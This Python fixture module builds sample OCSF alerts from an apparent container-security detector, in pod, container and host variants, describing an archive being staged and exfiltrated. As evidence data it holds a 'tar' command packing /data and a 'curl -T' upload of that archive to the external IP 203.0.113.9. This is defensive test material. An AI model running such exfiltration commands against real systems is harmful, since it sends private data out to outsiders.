"""OCSF alerts in the shape `tidewaiter detect --json` writes, for a pod, a container and a host."""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import orjson

FINDING = "5b1d0f4c2a7e9d8b6c3a1f0e9d8c7b6a"
CONTAINER = "4f1c2b9e7d6a5c3b2a1908f7e6d5c4b3a29180f7e6d5c4b3a2918f7e6d5c4b3a"


def _base(uid: str = FINDING) -> dict[str, Any]:
    return {
        "class_uid": 2004,
        "time": 1764236530000,
        "severity_id": 4,
        "severity": "High",
        "risk_score": 70,
        "message": "Archive staged and exfiltrated from a container",
        "finding_info": {
            "uid": uid,
            "title": "Archive staged and exfiltrated from a container",
            "desc": "tar packed data; curl sent it to non-internal 203.0.113.9",
            "first_seen_time": 1764236470000,
            "last_seen_time": 1764236530000,
            "analytic": {"uid": "tw-archive-exfil", "name": "Archive staged and exfiltrated"},
            "attacks": [],
        },
        "evidences": [
            {
                "data": {
                    "time": 1764236470000,
                    "signal": "archive",
                    "tool": "tar",
                    "explanation": "tar created",
                    "raw_ref": {"source": "tetragon", "path": "events.jsonl", "line": 1},
                },
                "process": {
                    "pid": 4112,
                    "cmd_line": "tar -czf /tmp/archive.tar.gz /data",
                    "file": {"path": "/bin/tar"},
                    "parent_process": {"pid": 4100, "file": {"path": "/bin/sh"}},
                },
                "file": {"path": "/tmp/archive.tar.gz"},
            },
            {
                "data": {
                    "time": 1764236530000,
                    "signal": "upload",
                    "tool": "curl",
                    "explanation": "curl sent it",
                    "raw_ref": {"source": "tetragon", "path": "events.jsonl", "line": 2},
                },
                "process": {
                    "pid": 4120,
                    "cmd_line": "curl -T /tmp/archive.tar.gz https://203.0.113.9/",
                    "file": {"path": "/usr/bin/curl"},
                },
                "dst_endpoint": {"ip": "203.0.113.9", "port": 443},
            },
        ],
        "status_id": 1,
        "status": "New",
        "device": {"type_id": 0, "hostname": "node-1"},
    }


def _put(alert: dict[str, Any], container: dict[str, Any]) -> None:
    """Where tidewaiter puts the container: the device's (the host is known) and each evidence's."""
    alert["device"]["container"] = container
    for evidence in alert["evidences"]:
        evidence["container"] = container


def pod(namespace: str = "payments", name: str = "api-7d9f8b6c5-x2kqz") -> dict[str, Any]:
    alert = _base()
    _put(
        alert,
        {
            "uid": CONTAINER,
            "name": "api",
            "image": {"name": "registry.example.com/payments/api:1.42.0"},
            "runtime": "containerd",
        },
    )
    alert["unmapped"] = {"k8s": {"namespace": namespace, "pod": name}}
    return alert


def container(uid: str = CONTAINER[:31], image: str | None = None) -> dict[str, Any]:
    alert = _base()
    _put(alert, {"uid": uid, "name": "stager"})
    if image:
        alert["device"]["container"]["image"] = {"name": image, "uid": image}
    return alert


def host(windows: bool = False) -> dict[str, Any]:
    alert = _base()
    if windows:
        alert["evidences"][1]["process"]["file"]["path"] = r"C:\Windows\System32\curl.exe"
        alert["evidences"][1]["data"]["raw_ref"]["source"] = "sysmon-evtx"
    return alert


def with_uid(alert: dict[str, Any], uid: str) -> dict[str, Any]:
    copied = copy.deepcopy(alert)
    copied["finding_info"]["uid"] = uid
    return copied


def write(path: Path, *alerts: dict[str, Any]) -> Path:
    path.write_bytes(b"".join(orjson.dumps(a) + b"\n" for a in alerts))
    return path
